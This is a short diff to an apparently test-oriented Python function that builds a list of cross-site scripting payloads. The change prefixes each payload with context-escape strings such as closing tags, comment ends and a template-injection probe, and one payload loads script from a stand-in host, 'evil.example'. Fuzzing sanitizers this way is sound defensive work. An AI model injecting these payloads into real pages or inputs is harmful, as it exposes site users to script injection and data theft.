@@ -2,7 +2,7 @@
 
 
 def hostile() -> list[str]:
-    """Fifty of them."""
+    """Two hundred of them: each after the ends of whatever it might stand in."""
     payloads = [
         "<script>alert(1)</script>",
         "<ScRiPt src=//evil.example></sCrIpT>",
@@ -30,4 +30,5 @@ def hostile() -> list[str]:
         "<template><script>alert(1)</script></template>",
         "<!--<script>alert(1)</script>-->",
     ]
-    return payloads + [f"\"'>{payload}" for payload in payloads]
+    ends = ["", "\"'>", "</p></li></ol>", "-->", "]]>", "</textarea></title></style>", "{{7*7}}", "&lt;"]
+    return [end + payload for end in ends for payload in payloads]
